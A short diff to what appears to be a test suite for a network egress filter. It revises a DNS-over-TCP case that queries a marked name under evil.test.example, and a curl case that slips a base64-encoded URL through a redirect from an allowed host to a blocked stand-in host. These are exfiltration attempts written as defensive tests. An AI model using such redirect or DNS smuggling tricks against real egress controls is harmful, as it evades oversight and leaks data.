@@ -144,7 +144,7 @@ def dns_text(mark: str) -> object:
     return ask("8.8.8.8", f"{mark}.api.test.example", 16)
 
 
-@case("heard")
+@case(("tcp", "9.9.9.9", 53))
 def dns_over_tcp(mark: str) -> object:
     """The same over TCP."""
     asked = question(f"{mark}.evil.test.example", 1)
@@ -420,7 +420,9 @@ def smuggled_by_lengths(mark: str) -> object:
 @case("heard")
 def redirected(mark: str) -> object:
     """A redirect of an allowed host to one that is not."""
-    return curl("-L", "-k", "--resolve", f"evil.test.example:443:{API}", f"https://api.test.example/away?https://evil.test.example/{mark}")
+    # Coded, so that the mark itself is in the second request only.
+    there = base64.urlsafe_b64encode(f"https://evil.test.example/{mark}".encode()).decode()
+    return curl("-L", "-k", "--resolve", f"evil.test.example:443:{API}", f"https://api.test.example/away?{there}")
 
 
 @case("heard")
